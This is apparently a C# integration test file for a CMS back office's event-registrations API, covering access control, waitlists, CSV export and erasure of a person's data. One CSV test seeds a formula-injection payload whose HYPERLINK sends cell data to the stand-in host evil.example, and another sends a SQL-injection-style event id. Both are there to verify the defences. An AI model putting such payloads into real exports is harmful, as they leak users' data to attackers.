using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using IcssiCms.Core.Registrations;
using IcssiCms.Web.IntegrationTests.Delivery;
using IcssiCms.Web.IntegrationTests.Forms;
using IcssiCms.Core.Schema;
using Microsoft.Extensions.DependencyInjection;
using NPoco;
using Umbraco.Cms.Infrastructure.Scoping;

namespace IcssiCms.Web.IntegrationTests.Registrations;

/// <summary>
/// The back office's registration endpoints (Management API, <c>icssi/registrations</c>): editors see the events and
/// their counts; only administrators see who registered, export them, or export one person's data.
/// </summary>
[Collection(RegistrationsSiteCollection.Name)]
public sealed class RegistrationsApiTests(RegistrationsSite site)
{
    public const string Api = "/umbraco/management/api/v1/icssi/registrations";

    private static readonly Guid GlobalizationConference = SeedContent.Hub.Named("Globalization Conference 2014").Key;
    private static readonly Guid SessionsOf28October = SeedContent.Hub.Named("Conference Sessions, 28 October").Key;

    [Fact]
    public async Task An_Editor_Sees_Each_Event_With_Its_Capacity_And_How_Many_Hold_And_Wait()
    {
        // Raising the capacity may give the new place to someone already in line; two sign-ups fill the event either way.
        var capacity = site.HeldAt(HubFormKeys.IraqSession) + 1;
        EventCapacity.Publish(site, HubFormKeys.IraqSession, capacity);
        EventCapacity.Publish(site, GlobalizationConference, 40);
        await site.SignUpAsync("Maybe Last Place", FormEntryTests.UniqueEmail("counts-1"), HubFormKeys.IraqSession);
        await site.SignUpAsync("Too Late", FormEntryTests.UniqueEmail("counts-2"), HubFormKeys.IraqSession);
        var stored = StatusesAt(HubFormKeys.IraqSession);

        using var response = await (await site.EditorAsync()).GetAsync($"{Api}/events");

        var events = await ReadJsonAsync(response);
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
        var session = Assert.Single(events.EnumerateArray(), e => e.GetProperty("id").GetGuid() == HubFormKeys.IraqSession);
        Assert.Equal(SeedContent.Hub[HubFormKeys.IraqSession].Name(HubCultures.English), session.GetProperty("name").GetString());
        Assert.Equal((capacity, capacity, 0), (session.GetProperty("capacity").GetInt32(), session.GetProperty("held").GetInt32(), session.GetProperty("available").GetInt32()));
        Assert.Equal(stored.GetValueOrDefault(RegistrationStatus.Waitlisted), session.GetProperty("waitlisted").GetInt32());
        Assert.True(session.GetProperty("waitlisted").GetInt32() >= 1);
        Assert.Equal(stored.GetValueOrDefault(RegistrationStatus.Confirmed), session.GetProperty("confirmed").GetInt32());

        // An event with places that nobody signed up for is listed; one without places or sign-ups is not.
        var unsigned = Assert.Single(events.EnumerateArray(), e => e.GetProperty("id").GetGuid() == GlobalizationConference);
        Assert.Equal((40, 0, 0), (unsigned.GetProperty("capacity").GetInt32(), unsigned.GetProperty("held").GetInt32(), unsigned.GetProperty("waitlisted").GetInt32()));
        Assert.DoesNotContain(events.EnumerateArray(), e => e.GetProperty("id").GetGuid() == SessionsOf28October);
    }

    [Fact]
    public async Task An_Editor_Is_Refused_Who_Registered_The_Csv_And_A_Persons_Data_And_Nothing_Changes()
    {
        var email = FormEntryTests.UniqueEmail("editor-refused");
        await site.SignUpAsync("Refused Person", email, HubFormKeys.SocialEvent);
        var registration = Assert.Single(site.Store.Of(email).Registrations);
        var editor = await site.EditorAsync();

        var answers = new Dictionary<string, HttpStatusCode>();
        async Task Record(string what, Task<HttpResponseMessage> call)
        {
            using var response = await call;
            answers[what] = response.StatusCode;
        }

        await Record("registrations", editor.GetAsync($"{Api}/events/{HubFormKeys.SocialEvent:D}"));
        await Record("csv", editor.GetAsync($"{Api}/export"));
        await Record("promote", editor.PostAsync($"{Api}/{registration.Key:D}/promote", null));
        await Record("person export", editor.PostAsJsonAsync($"{Api}/person/export", new { email }));
        await Record("person erase", editor.PostAsJsonAsync($"{Api}/person/erase", new { email }));

        Assert.All(answers, a => Assert.True(a.Value == HttpStatusCode.Forbidden, $"{a.Key}: {(int)a.Value}"));
        var after = site.Store.Of(email);
        Assert.Single(after.Records);
        Assert.Equal(registration.Status, Assert.Single(after.Registrations).Status);
    }

    [Fact]
    public async Task Without_Signing_In_Or_With_A_Forged_Token_Nothing_Is_Answered_Or_Erased()
    {
        var email = FormEntryTests.UniqueEmail("not-signed-in");
        await site.SignUpAsync("Not Given Out", email, HubFormKeys.SocialEvent);
        var registration = Assert.Single(site.Store.Of(email).Registrations);
        using var anonymous = site.CreateClient();
        using var forged = site.CreateClient();
        forged.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", "not-a-token-the-site-issued");

        foreach (var (client, who) in new[] { (anonymous, "anonymous"), (forged, "forged token") })
        {
            var requests = new (string What, Func<Task<HttpResponseMessage>> Send)[]
            {
                ("events", () => client.GetAsync($"{Api}/events")),
                ("registrations", () => client.GetAsync($"{Api}/events/{HubFormKeys.SocialEvent:D}")),
                ("csv", () => client.GetAsync($"{Api}/export")),
                ("promote", () => client.PostAsync($"{Api}/{registration.Key:D}/promote", null)),
                ("person export", () => client.PostAsJsonAsync($"{Api}/person/export", new { email })),
                ("person erase", () => client.PostAsJsonAsync($"{Api}/person/erase", new { email })),
            };
            foreach (var (what, send) in requests)
            {
                using var response = await send();
                Assert.True(response.StatusCode == HttpStatusCode.Unauthorized, $"{who}, {what}: {(int)response.StatusCode}");
                Assert.DoesNotContain(email, await response.Content.ReadAsStringAsync());
            }
        }

        var after = site.Store.Of(email);
        Assert.Single(after.Records);
        Assert.Equal((registration.Status, registration.Position), (Assert.Single(after.Registrations).Status, after.Registrations[0].Position));
    }

    [Fact]
    public async Task An_Administrator_Sees_An_Events_Registrations_Holders_First_Then_The_Line_In_Order()
    {
        // One place more: the first sign-up takes it unless someone already in line is given it on publishing.
        EventCapacity.Publish(site, HubFormKeys.SocialEvent, site.HeldAt(HubFormKeys.SocialEvent) + 1);
        var people = new[] { ("Maybe Held", FormEntryTests.UniqueEmail("line-1")), ("ليلى حسن", FormEntryTests.UniqueEmail("line-2")), ("Third", FormEntryTests.UniqueEmail("line-3")) };
        var answers = new List<string>();
        foreach (var (name, email) in people)
        {
            answers.Add(Assert.Single(await site.SignUpAsync(name, email, HubFormKeys.SocialEvent)));
        }

        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/events/{HubFormKeys.SocialEvent:D}");

        var body = await ReadJsonAsync(response);
        var rows = body.GetProperty("registrations").EnumerateArray().ToList();
        var statuses = rows.Select(r => r.GetProperty("status").GetString()).ToList();
        Assert.Equal(statuses.OrderBy(s => s switch { "pending" or "confirmed" => 0, "waitlisted" => 1, _ => 2 }), statuses);
        var line = rows.Where(r => r.GetProperty("status").GetString() == "waitlisted").ToList();
        Assert.Equal(Enumerable.Range(1, line.Count), line.Select(r => r.GetProperty("placeInLine").GetInt32()));

        var ours = people.Zip(answers).Select(p => (Name: p.First.Item1, Email: p.First.Item2, Answer: p.Second)).ToList();
        var waiting = ours.Where(p => p.Answer == "waitlisted").ToList();
        Assert.True(waiting.Count >= 2, string.Join(", ", answers));
        Assert.Equal(waiting.Select(p => p.Email), line.TakeLast(waiting.Count).Select(r => r.GetProperty("email").GetString()));
        foreach (var person in ours)
        {
            var row = Assert.Single(rows, r => r.GetProperty("email").GetString() == person.Email);
            Assert.Equal((person.Name, person.Answer == "placed" ? "pending" : "waitlisted"), (row.GetProperty("name").GetString(), row.GetProperty("status").GetString()));
        }

        Assert.Equal(body.GetProperty("event").GetProperty("capacity").GetInt32(), body.GetProperty("event").GetProperty("held").GetInt32());
    }

    [Theory]
    [InlineData("not-a-guid", HttpStatusCode.BadRequest)]
    [InlineData("00000000-0000-0000-0000-000000000001", HttpStatusCode.NotFound)]
    public async Task An_Event_Id_That_Is_Not_One_Is_A_Problem_Naming_It(string eventId, HttpStatusCode expected)
    {
        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/events/{eventId}");

        var problem = await FormDefinitionTests.ReadProblemAsync(response, expected);
        Assert.Equal("eventId", problem.GetProperty("member").GetString());
    }

    [Fact]
    public async Task The_Csv_Shows_Formulas_As_Text_Keeps_Quotes_And_Arabic_Names_In_Utf8()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        const string arabic = "كريم عبد الله";
        var hostile = FormEntryTests.UniqueEmail("csv-formula");
        var arabicEmail = FormEntryTests.UniqueEmail("csv-arabic");
        await site.SignUpAsync(formula, hostile, HubFormKeys.Conference);
        await site.SignUpAsync(arabic, arabicEmail, HubFormKeys.Conference);
        // Each name as a spreadsheet shows its cell: a leading formula character escaped, as text.
        var cells = new Dictionary<string, (string Name, string Cell)>
        {
            [FormEntryTests.UniqueEmail("csv-plus")] = ("+1 555 0100", "'+1 555 0100"),
            [FormEntryTests.UniqueEmail("csv-minus")] = ("-2+3", "'-2+3"),
            [FormEntryTests.UniqueEmail("csv-at")] = ("@SUM(1)", "'@SUM(1)"),
            [FormEntryTests.UniqueEmail("csv-quotes")] = ("Said \"hello\", then left", "Said \"hello\", then left"),
        };
        foreach (var (email, (name, _)) in cells)
        {
            await site.SignUpAsync(name, email, HubFormKeys.Conference);
        }

        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/export?eventId={HubFormKeys.Conference:D}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        var lines = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes[3..]).Split(["\r\n", "\n"], StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("event,eventId,name,email,language,status,position,signedUpAt,emailConfirmedAt", lines[0]);
        Assert.All(lines.Skip(1), line => Assert.StartsWith(SeedContent.Hub[HubFormKeys.Conference].Name(HubCultures.English) + ",", line));

        var hostileLine = Assert.Single(lines, l => l.Contains(hostile));
        Assert.DoesNotContain(",=", hostileLine);
        Assert.DoesNotContain(",\"=", hostileLine);
        Assert.Contains("'=HYPERLINK(", hostileLine);
        Assert.Contains($",{arabic},{arabicEmail},", Assert.Single(lines, l => l.Contains(arabicEmail)));
        foreach (var (email, (_, cell)) in cells)
        {
            // Quoted, or bare if it holds no comma or quote: a spreadsheet reads both the same.
            var line = Assert.Single(lines, l => l.Contains(email));
            var bare = !cell.Contains(',') && !cell.Contains('"') && line.Contains($",{cell},{email},");
            Assert.True(bare || line.Contains($",\"{cell.Replace("\"", "\"\"")}\",{email},"), line);
        }
    }

    [Fact]
    public async Task A_Csv_For_An_Event_Id_That_Is_Not_A_Guid_Is_A_Problem_Naming_It()
    {
        using var response = await (await site.AdministratorAsync()).GetAsync($"{Api}/export?eventId=1%3B%20DROP");

        var problem = await FormDefinitionTests.ReadProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Equal("eventId", problem.GetProperty("member").GetString());
    }

    [Fact]
    public async Task An_Administrator_Exports_Everything_Stored_For_An_Address_Given_In_The_Body()
    {
        var email = FormEntryTests.UniqueEmail("person-export");
        await site.SignUpAsync("Export Me", email, HubFormKeys.SocialEvent, HubFormKeys.IraqSession);

        using var response = await (await site.AdministratorAsync()).PostAsJsonAsync($"{Api}/person/export", new { email = "  " + email.ToUpperInvariant() + " " });

        var data = await ReadJsonAsync(response);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.True(response.Headers.CacheControl?.NoStore, $"Cache-Control: {response.Headers.CacheControl}");
        Assert.Equal(email, data.GetProperty("email").GetString());
        var record = Assert.Single(data.GetProperty("records").EnumerateArray());
        Assert.Equal("Export Me", record.GetProperty("values").GetProperty("name")[0].GetString());
        Assert.False(string.IsNullOrEmpty(record.GetProperty("consentText").GetString()));
        Assert.Equal(
            new[] { HubFormKeys.SocialEvent, HubFormKeys.IraqSession }.Order(),
            data.GetProperty("registrations").EnumerateArray().Select(r => r.GetProperty("eventId").GetGuid()).Order());
    }

    [Fact]
    public async Task Promoting_Someone_In_Line_When_The_Event_Is_Full_Puts_Them_First_And_The_Next_Place_Is_Theirs()
    {
        var capacity = site.HeldAt(HubFormKeys.IraqSession) + 1;
        EventCapacity.Publish(site, HubFormKeys.IraqSession, capacity);
        await site.SignUpAsync("Last Place", FormEntryTests.UniqueEmail("promote-held"), HubFormKeys.IraqSession);
        await site.SignUpAsync("Early Waiter", FormEntryTests.UniqueEmail("promote-early"), HubFormKeys.IraqSession);
        var late = FormEntryTests.UniqueEmail("promote-late");
        Assert.Equal(["waitlisted"], await site.SignUpAsync("Late Waiter", late, HubFormKeys.IraqSession));
        var chosen = Assert.Single(site.Store.Of(late).Registrations);
        var administrator = await site.AdministratorAsync();

        using var response = await administrator.PostAsync($"{Api}/{chosen.Key:D}/promote", null);

        var answer = await ReadJsonAsync(response);
        Assert.Equal("firstInLine", answer.GetProperty("outcome").GetString());
        using var list = await administrator.GetAsync($"{Api}/events/{HubFormKeys.IraqSession:D}");
        var first = (await ReadJsonAsync(list)).GetProperty("registrations").EnumerateArray().First(r => r.GetProperty("status").GetString() == "waitlisted");
        Assert.Equal((chosen.Key, 1), (first.GetProperty("id").GetGuid(), first.GetProperty("placeInLine").GetInt32()));
        Assert.Equal(capacity, site.HeldAt(HubFormKeys.IraqSession));

        EventCapacity.Publish(site, HubFormKeys.IraqSession, capacity + 1);

        Assert.Equal(RegistrationStatus.Pending, (RegistrationStatus)Assert.Single(site.Store.Of(late).Registrations).Status);
    }

    [Fact]
    public async Task Promoting_Someone_Who_Holds_A_Place_Is_A_409_And_Changes_Nothing()
    {
        var email = FormEntryTests.UniqueEmail("promote-holder");
        await site.SignUpAsync("Holder", email, HubFormKeys.Conference);
        var before = Assert.Single(site.Store.Of(email).Registrations);

        using var response = await (await site.AdministratorAsync()).PostAsync($"{Api}/{before.Key:D}/promote", null);

        var problem = await FormDefinitionTests.ReadProblemAsync(response, HttpStatusCode.Conflict);
        Assert.Equal("id", problem.GetProperty("member").GetString());
        var after = Assert.Single(site.Store.Of(email).Registrations);
        Assert.Equal((before.Status, before.Position), (after.Status, after.Position));
    }

    [Fact]
    public async Task Erasing_A_Person_Deletes_All_They_Sent_And_Their_Place_Goes_To_The_Next_In_Line()
    {
        var capacity = site.HeldAt(HubFormKeys.Conference) + 1;
        EventCapacity.Publish(site, HubFormKeys.Conference, capacity);
        var erased = FormEntryTests.UniqueEmail("erase-me");
        await site.SignUpAsync("Erase Me", erased, HubFormKeys.Conference, HubFormKeys.SocialEvent);
        await site.SignUpAsync("Next In Line", FormEntryTests.UniqueEmail("erase-next"), HubFormKeys.Conference);
        var administrator = await site.AdministratorAsync();
        using var list = await administrator.GetAsync($"{Api}/events/{HubFormKeys.Conference:D}");
        var next = (await ReadJsonAsync(list)).GetProperty("registrations").EnumerateArray().First(r => r.GetProperty("status").GetString() == "waitlisted");

        using var response = await administrator.PostAsJsonAsync($"{Api}/person/erase", new { email = erased.ToUpperInvariant() });

        var answer = await ReadJsonAsync(response);
        Assert.Equal((1, 2), (answer.GetProperty("records").GetInt32(), answer.GetProperty("registrations").GetInt32()));
        var (records, registrations) = site.Store.Of(erased);
        Assert.Empty(records);
        Assert.Empty(registrations);
        Assert.Equal(RegistrationStatus.Pending, (RegistrationStatus)site.Store.Find(next.GetProperty("id").GetGuid())!.Status);
        Assert.Equal(capacity, site.HeldAt(HubFormKeys.Conference));
    }

    [Fact]
    public async Task Erasing_An_Address_Nobody_Used_Erases_Nothing()
    {
        using var response = await (await site.AdministratorAsync()).PostAsJsonAsync($"{Api}/person/erase", new { email = FormEntryTests.UniqueEmail("nobody") });

        var answer = await ReadJsonAsync(response);
        Assert.Equal((0, 0), (answer.GetProperty("records").GetInt32(), answer.GetProperty("registrations").GetInt32()));
    }

    /// <summary>How many registrations of the event are in each status, straight from the database.</summary>
    private Dictionary<RegistrationStatus, int> StatusesAt(Guid eventKey)
    {
        using var scope = site.Services.GetRequiredService<IScopeProvider>().CreateScope(autoComplete: true);
        return scope.Database.Fetch<RegistrationDto>(new Sql($"SELECT * FROM {RegistrationDto.TableName} WHERE eventKey = @0", eventKey))
            .GroupBy(r => (RegistrationStatus)r.Status).ToDictionary(g => g.Key, g => g.Count());
    }

    public static async Task<JsonElement> ReadJsonAsync(HttpResponseMessage response, HttpStatusCode expected = HttpStatusCode.OK)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == expected, $"{(int)response.StatusCode}: {body}");
        return JsonDocument.Parse(body).RootElement.Clone();
    }
}
